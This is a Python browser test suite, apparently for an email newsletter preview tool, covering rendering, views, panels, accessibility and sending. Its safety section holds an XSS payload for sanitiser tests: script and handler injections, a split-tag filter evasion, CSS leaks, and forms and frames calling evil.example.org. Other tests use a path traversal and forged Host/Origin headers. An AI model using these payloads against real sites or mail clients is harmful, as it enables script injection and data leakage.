"""The preview as an editor uses it, in a real browser."""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from pipeline.models.address import parse_address
from pipeline.project import Project
from tests.browser import Browser, violations
from tests.web.previews import (
    ARTICLE,
    CONFIG,
    Preview,
    checked,
    frame,
    make_project,
    previewing,
    shown,
)

if TYPE_CHECKING:
    from playwright.sync_api import Page

PAGE_RULES = (
    *("aria-allowed-attr", "aria-required-children", "aria-required-parent", "aria-roles"),
    *(
        "aria-valid-attr-value",
        "button-name",
        "color-contrast",
        "document-title",
        "duplicate-id-aria",
    ),
    *(
        "frame-title",
        "html-has-lang",
        "image-alt",
        "label",
        "landmark-one-main",
        "link-name",
        "list",
    ),
    *(
        "listitem",
        "nested-interactive",
        "page-has-heading-one",
        "scrollable-region-focusable",
        "select-name",
    ),
    *("tabindex", "target-size"),
)


@pytest.fixture
def preview(tmp_path: Path) -> Iterator[Preview]:
    """A preview of one article."""
    with previewing(make_project(tmp_path / "lantern")) as running:
        yield running


def test_it_starts_with_the_letter_at_a_desk_and_on_a_phone(
    preview: Preview, browser: Browser
) -> None:
    """The first page shows the letter in two widths, its title and its picture, and nothing was asked of the web."""

    def look(page: Page) -> tuple[str, str, bool, list[str]]:
        shown(page)
        is_loaded = frame(page, "phone").locator("img").evaluate("i => i.naturalWidth > 0")
        asked: list[str] = page.asked_elsewhere  # type: ignore[attr-defined]
        return page.inner_text("#title"), frame(page).locator("h1").inner_text(), is_loaded, asked

    assert ("The Tide Clock", "The Tide Clock", True, []) == browser.at(preview.url, look)


def test_what_is_saved_is_on_the_screen_scrolled_as_before(
    preview: Preview, browser: Browser
) -> None:
    """A saved article, configuration or picture replaces the letter where it was scrolled to."""

    def work(page: Page) -> Any:  # Any: what was seen
        shown(page)
        frame(page).locator("html").evaluate("root => { root.scrollTop = 300 }")
        page.wait_for_timeout(100)
        preview.save(ARTICLE.replace("Nobody winds it.", "A boy winds it."))
        shown(page, 2)
        top = frame(page).locator("html").evaluate("root => root.scrollTop")
        text = frame(page).locator("body").inner_text()
        preview.save(CONFIG.replace("Keep the lamp lit", "Feed the lamp"), "handbill.toml")
        shown(page, 3)
        return (
            top,
            "A boy winds it." in text,
            "Feed the lamp" in frame(page).locator("body").inner_text(),
        )

    assert (300, True, True) == browser.at(preview.url, work)


def test_a_mistake_is_told_and_the_last_good_picture_stays(
    preview: Preview, browser: Browser
) -> None:
    """A broken file is told with file and line; the letter stays on the screen until it is mended."""

    def work(page: Page) -> Any:  # Any: what was seen
        shown(page)
        preview.save(
            CONFIG.replace('timezone = "Europe/London"', 'timezone = "Mars/Olympus"'),
            "handbill.toml",
        )
        page.wait_for_selector("#mistake:not([hidden])")
        told, title = page.inner_text("#mistake"), frame(page).locator("h1").inner_text()
        preview.save(CONFIG, "handbill.toml")
        page.wait_for_selector("#mistake", state="hidden")
        return told, title

    told, title = browser.at(preview.url, work)
    assert "handbill.toml:5, [publication] timezone" in told
    assert "The Tide Clock" == title


@pytest.mark.parametrize(
    ("view", "look"),
    [
        ("dark", "getComputedStyle(document.querySelector('.prose p')).color"),
        ("inverted", "getComputedStyle(document.documentElement).filter"),
        ("darkened", "getComputedStyle(document.querySelector('.prose p')).color"),
    ],
)
def test_dark_views_are_dark(preview: Preview, browser: Browser, view: str, look: str) -> None:
    """Authored dark, and the two kinds of forced dark, each change how the letter looks."""

    def work(page: Page) -> tuple[str, str]:
        shown(page)
        before = frame(page).locator("body").evaluate(f"() => {look}")
        page.click(f'[data-view="{view}"]')
        card = frame(page, view)
        card.locator("h1").wait_for()
        return before, card.locator("body").evaluate(f"() => {look}")

    light, dark = browser.at(preview.url, work)
    assert light != dark


def test_each_view_opens_and_closes_by_its_key(preview: Preview, browser: Browser) -> None:
    """Every view has a chip and a key; each shows something of the letter."""

    def work(page: Page) -> dict[str, str]:
        shown(page)
        seen = {}
        for chip in page.locator("[data-view]").all():
            name = chip.get_attribute("data-view") or ""
            if chip.get_attribute("aria-pressed") == "false":
                page.keyboard.press(str(chip.get_attribute("title"))[-1])
            card = page.locator(f'[data-card="{name}"]')
            inside = frame(page, name).locator("body") if card.locator("iframe").count() else card
            seen[name] = inside.inner_text()
            chip.click()
            card.wait_for(state="detached")
        return seen

    seen = browser.at(preview.url, work)
    assert 17 == len(seen)
    for name, text in seen.items():
        assert "tide clock" in text.lower(), name
    assert "Who it is from" in seen["message"]


def test_a_planted_error_is_found_by_its_panel_and_jumped_to(
    tmp_path: Path, browser: Browser
) -> None:
    """A link without a target is listed with its code; a click shows the line in the source."""
    article = ARTICLE.replace("Nobody winds it.", "Nobody [winds it](#nowhere).")
    with previewing(make_project(tmp_path / "lantern", article=article)) as preview:

        def work(page: Page) -> tuple[str, str]:
            checked(shown(page))
            finding = page.locator("#panel .item", has_text="link.unusable")
            finding.click()
            page.wait_for_selector("dialog[open] .here")
            return finding.inner_text(), page.inner_text("dialog .here")

        told, line = browser.at(preview.url, work)
    assert "leads to #nowhere" in told
    assert "Nobody [winds it](#nowhere)" in line


def test_the_panels_say_what_the_letter_holds(preview: Preview, browser: Browser) -> None:
    """Inbox line, links with their reference codes, pictures, notes beside their references, sizes."""

    def work(page: Page) -> dict[str, str]:
        shown(page)
        found = {}
        for name in ("inbox", "links", "images", "notes", "size", "readers"):
            page.click(f"#tab-{name}")
            found[name] = page.inner_text("#panel")
        page.click("#tab-access")
        page.locator("#panel:not(:has-text('Looking for obstacles …'))").wait_for()
        found["access"] = page.inner_text("#panel")
        return found

    found = browser.at(preview.url, work)
    assert "What the tide clock says" in found["inbox"]
    assert "letter_end_10" in found["links"]
    assert "640 × 360" in found["images"]
    assert "A copper ball the size of a cheese." in found["notes"]
    assert "cited in “Nobody winds it." in found["notes"]
    assert "where Gmail clips" in found["size"]
    assert "donor: monthly" in found["readers"]
    assert "axe-core finds no obstacle." == found["access"]


def test_as_whom_and_when(preview: Preview, browser: Browser) -> None:
    """A group, a value typed in, the time after the deadline and another language each change the whole page."""

    def work(page: Page) -> dict[str, str]:
        shown(page)
        seen = {}

        def read(name: str, words: str) -> None:
            frame(page).get_by_text(words).first.wait_for()
            seen[name] = frame(page).locator("body").inner_text()

        read("most", "Keep the lamp lit")
        page.select_option("#who", label="donor: monthly")
        read("monthly", "Thank you for every month")
        page.select_option("#who", label="Most readers")
        page.fill('[data-field="name"]', "Ada & Grace")
        page.keyboard.press("Tab")
        read("typed", "Dear Ada & Grace")
        page.select_option("#when", index=1)
        read("after", "The drive is over.")
        page.select_option("#language", "fr")
        read("french", "Se désabonner")
        is_loaded = "() => [...document.images].every(i => i.naturalWidth > 0)"
        seen["pictures"] = str(frame(page).locator("body").evaluate(is_loaded))
        return seen

    seen = browser.at(preview.url, work)
    assert "Keep the lamp lit" not in seen["monthly"]
    assert "Keep the lamp lit" not in seen["after"]
    assert "Dear reader" in seen["most"]
    assert "True" == seen["pictures"]


def test_a_test_is_sent_the_real_way(preview: Preview, browser: Browser) -> None:
    """A test goes out by the project's sender, marked in its subject, and lies in the outbox room with all views."""

    def work(page: Page) -> tuple[str, str, str]:
        shown(page)
        page.click("#test")
        page.fill("#address", "desk@lantern.example.org")
        page.click("dialog button.main")
        page.get_by_text("Written to").wait_for()
        page.goto(f"{preview.origin}/room/outbox?q=desk@lantern")
        subject = page.inner_text(".articles strong")
        page.click(".articles a")
        shown(page)
        page.keyboard.press("t")
        return (
            subject,
            frame(page).locator("h1").inner_text(),
            page.inner_text('[data-card="text"]'),
        )

    subject, title, text = browser.at(preview.url, work)
    assert "[Test] What the tide clock says" == subject
    assert "The Tide Clock" == title
    assert "[1] There was a second one until 1911." in text
    (written,) = (preview.folder / "outbox").glob("*/*.eml")
    assert b"desk@lantern.example.org" in written.read_bytes()


def test_html_is_copied_and_the_message_downloaded(preview: Preview, browser: Browser) -> None:
    """The clipboard gets the letter's HTML, and the download is the message for whom one looks at it."""

    def work(page: Page) -> tuple[str, bytes]:
        shown(page)
        page.click("#copy")
        page.get_by_text("HTML copied").wait_for()
        copied = page.evaluate("navigator.clipboard.readText()")
        with page.expect_download() as download:
            page.click("#download")
        return copied, Path(download.value.path()).read_bytes()

    copied, message = browser.at(preview.url, work)
    assert copied.startswith("<!DOCTYPE html>")
    assert b"Subject: What the tide clock says" in message


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_previews_own_pages_have_no_obstacles(
    preview: Preview, browser: Browser, scheme: Any
) -> None:
    """axe finds nothing in the studio, its panels and dialogs, the index and the outbox, by day and by night."""
    with Project.open(preview.folder).open_subscribers() as roll:
        roll.add(parse_address("Ada <ada@example.org>"), list_name="weekly", attributes={})
    preview.call(f"{preview.letter}/test", {"address": "desk@example.org"})
    preview.save(ARTICLE.replace("Nobody winds it.", "A boy winds it."))

    def work(page: Page) -> dict[str, list[str]]:
        checked(shown(page, 2))
        found = {"studio": look(page)}
        for name in ("inbox", "links", "images", "notes", "size", "readers", "changes"):
            page.click(f"#tab-{name}")
            page.locator("#panel:not(:has-text('Looking …'))").wait_for()
            found[name] = look(page)
        page.keyboard.press("?")
        found["keys"] = look(page)
        page.keyboard.press("Escape")
        page.click("#person")
        page.fill("#person-words", "a")
        page.locator(".people .item").first.wait_for()
        found["people"] = look(page)
        page.keyboard.press("Escape")
        page.click("#send")
        page.fill("#send-at", "2099-12-01T09:00")
        found["send"] = look(page)
        page.click("#send-next")
        page.locator("#send-go").wait_for()
        found["offer"] = look(page)
        page.click("#send-go")
        page.locator("#campaign-state").wait_for()
        found["campaign"] = look(page)
        for path in ("articles", "room/outbox"):
            page.goto(f"{preview.origin}/{path}")
            found[path] = look(page)
        return found

    def look(page: Page) -> list[str]:
        # the letters themselves are looked at elsewhere; here frames are only frames
        return violations(page, PAGE_RULES if scheme == "light" else ("color-contrast",))

    found = browser.at(preview.url, work, scheme=scheme)
    assert {} == {where: what for where, what in found.items() if what}


def test_the_index_holds_many_articles(tmp_path: Path, browser: Browser) -> None:
    """Two hundred articles are listed, the search narrows, one is opened."""
    folder = make_project(tmp_path / "lantern")
    for number in range(200):
        (folder / f"letter-{number:03}.md").write_text(
            f"# Letter {number}\n\nText.\n", encoding="utf-8"
        )
    with previewing(folder, None) as preview:

        def work(page: Page) -> tuple[int, int, str]:
            every = page.locator("#articles li:visible").count()
            page.fill("#find", "letter 17")
            some = page.locator("#articles li:visible").count()
            page.click("#articles li:visible a")
            shown(page)
            return every, some, page.inner_text("#title")

        every, some, title = browser.at(preview.url, work)
    assert (201, 11) == (every, some)
    assert title.startswith("Letter 17")


def test_a_long_article_stays_whole(tmp_path: Path, browser: Browser) -> None:
    """An article of 20,000 words is shown, scrolled and replaced."""
    body = "\n\n".join(
        f"Paragraph {number}. " + "The tide comes in. " * 40 for number in range(125)
    )
    article = f"---\ntitle: Long\n---\n\n{body}\n"
    with previewing(make_project(tmp_path / "lantern", article=article)) as preview:

        def work(page: Page) -> tuple[bool, bool]:
            shown(page)
            page.click('[data-view="gmail"]')
            frame(page, "gmail").get_by_text("[Message clipped]").wait_for()
            preview.save(article.replace("Paragraph 124.", "The last one."))
            shown(page, 2)
            text = frame(page).locator("body").inner_text()
            return "The last one." in text, "Paragraph 0." in text

        assert (True, True) == browser.at(preview.url, work)


def test_two_windows_show_the_same(preview: Preview, browser: Browser) -> None:
    """What is saved comes to every window that is open."""

    def work(page: Page) -> list[str]:
        other = page.context.new_page()
        other.goto(page.url)
        for each in (page, other):
            shown(each)
        preview.save(ARTICLE.replace("Nobody winds it.", "A boy winds it."))
        for each in (page, other):
            frame(each).get_by_text("A boy winds it.").wait_for()
        return [frame(each).locator("body").inner_text() for each in (page, other)]

    assert all("A boy winds it." in text for text in browser.at(preview.url, work))


# Safety

HOSTILE = """\
<!doctype html><html><head><meta http-equiv="refresh" content="0;url=http://evil.example.org/refresh">
<base href="http://evil.example.org/"><link rel="stylesheet" href="http://evil.example.org/x.css">
<style>@import url(http://evil.example.org/import.css); body{background:url(http://evil.example.org/bg.png)}
a[href^="h"]{background:url(http://evil.example.org/leak)}</style></head>
<body onload="parent.postMessage('owned','*')"><h1>The tide clock</h1>
<script>top.location='http://evil.example.org/top';document.title='owned'</script>
<scr<script>ipt>document.title='owned'</script>
<img src="http://evil.example.org/pixel.gif" onerror="document.title='owned'">
<img src=x onerror=document.title='owned'>
<svg onload="document.title='owned'"><a xlink:href="javascript:1">x</a></svg>
<iframe src="http://evil.example.org/frame"></iframe><object data="http://evil.example.org/o"></object>
<form action="http://evil.example.org/post" method="post"><input name="a" value="b"><button>Go</button></form>
<a id="js" href="javascript:document.title='owned'">click</a>
<a id="out" href="http://evil.example.org/out" target="_top">out</a>
<div style="position:fixed;inset:0;background:url('http://evil.example.org/style')">over</div>
</body></html>
"""


def test_a_hostile_message_does_nothing(tmp_path: Path, browser: Browser) -> None:
    """Scripts, handlers, links, forms, frames, refreshes and styles of a message run nothing and load nothing."""
    from email.message import EmailMessage

    caught = tmp_path / "caught"
    caught.mkdir()
    message = EmailMessage()
    message["From"], message["To"] = "x@evil.example.org", "you@example.org"
    message["Subject"] = "<script>document.title='owned'</script>"
    message.set_content("text")
    message.add_alternative(HOSTILE, subtype="html")
    (caught / "1.eml").write_bytes(bytes(message))
    with previewing(make_project(tmp_path / "lantern"), caught=caught) as preview:

        def work(page: Page) -> tuple[list[str], str, str, str]:
            page.goto(f"{preview.origin}/room/caught")
            page.click(".articles a")
            shown(page)
            for view in ("dark", "outlook", "stripped", "message", "html"):
                page.click(f'[data-view="{view}"]')
            for name in ("#js", "#out"):
                frame(page).locator(name).click(force=True)
            page.wait_for_timeout(300)
            asked: list[str] = page.asked_elsewhere  # type: ignore[attr-defined]
            inner = (
                frame(page).locator("html").evaluate("() => [document.title, self.origin].join()")
            )
            return asked, page.url, page.title(), inner

        asked, url, title, inner = browser.at(preview.url, work)
    assert [] == asked
    assert url.startswith(preview.origin)
    assert "owned" not in (title, inner.split(",")[0])
    assert "null" == inner.split(",")[-1]


def ask(
    preview: Preview,
    path: str,
    *,
    method: str = "GET",
    headers: dict[str, str] | None = None,
) -> int:
    """Ask the preview without a browser; return the status."""
    body = json.dumps({"address": "a@example.org"}).encode() if method == "POST" else None
    request = urllib.request.Request(
        preview.origin + path, data=body, method=method, headers=headers or {}
    )
    try:
        with urllib.request.build_opener(NoRedirect).open(request, timeout=10) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        with error:
            return error.code


class NoRedirect(urllib.request.HTTPRedirectHandler):
    """Shows a redirect instead of following it."""

    def redirect_request(self, *_: Any) -> None:
        """Follow none."""


def test_only_who_has_the_key_is_answered(preview: Preview) -> None:
    """No page without the key, none under another name, no act without the header, none from another site."""
    key = preview.server.guard.token
    cookie = {"Cookie": f"handbill_preview={key}"}
    name = preview.server._desk.open(str(preview.folder / "tide.md"))
    act = f"/studio/{name}/test"
    json_type = {"Content-Type": "application/json"}

    assert 403 == ask(preview, "/articles")
    assert 303 == ask(preview, f"/?token={key}")
    assert 200 == ask(preview, "/articles", headers=cookie)
    assert 421 == ask(preview, "/articles", headers={**cookie, "Host": "evil.example.org"})
    assert 403 == ask(preview, act, method="POST", headers={**cookie, **json_type})
    token = {"X-Handbill-Token": key}
    assert 403 == ask(preview, act, method="POST", headers={**token, **json_type})
    evil = {"Origin": "http://evil.example.org"}
    assert 403 == ask(preview, act, method="POST", headers={**cookie, **token, **json_type, **evil})
    assert 404 == ask(preview, f"/frames/guess/{name}/light", headers=cookie)
    assert 404 == ask(preview, "/room/outbox/..%2Fhandbill.toml", headers=cookie)
    assert not (preview.folder / "outbox").exists()
    assert 200 == ask(preview, act, method="POST", headers={**cookie, **token, **json_type})


def test_no_page_with_the_key_is_shown_where_letters_are(preview: Preview) -> None:
    """What is in the way is told on a page of ours to who has the key, and in bare words where a letter stands."""
    guard = preview.server.guard
    (preview.folder / "broken.md").write_text("---\nappeal: 7\n---\n\nWords.\n", encoding="utf-8")
    name = preview.server._desk.open(str(preview.folder / "broken.md"))
    said = {}
    for path in ("/campaign/nothing", f"/frames/{guard.frames}/{name}/light"):
        headers = {"Accept": "text/html", "Cookie": f"handbill_preview={guard.token}"}
        asking = urllib.request.Request(preview.origin + path, headers=headers)
        with pytest.raises(urllib.error.HTTPError) as caught, urllib.request.urlopen(asking):
            pass
        with caught.value as answer:
            said[path.split("/")[1]] = (answer.code, answer.read().decode())
    assert (409, True) == (said["campaign"][0], guard.token in said["campaign"][1])
    assert "Something is in the way" in said["campaign"][1]
    assert (409, False) == (said["frames"][0], guard.token in said["frames"][1])
    assert "broken.md" in said["frames"][1]
